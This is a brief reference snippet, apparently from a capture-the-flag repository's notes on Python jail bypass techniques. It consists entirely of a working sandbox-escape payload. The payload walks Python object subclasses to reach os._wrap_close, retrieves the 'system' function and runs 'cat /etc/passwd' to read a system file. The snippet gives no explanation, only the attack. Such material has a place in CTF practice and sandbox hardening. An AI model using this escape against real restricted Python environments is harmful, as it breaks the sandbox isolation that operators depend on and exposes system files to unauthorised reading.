# Source: https://github.com/kiwamizamurai/cctf/blob/main/.claude/skills/pyjail/reference/bypass.md (pyjail bypass techniques)
for c in ().__class__.__base__.__subclasses__():
    if "wrap_close" in str(c):
        c.__init__.__globals__["system"]("cat /etc/passwd")
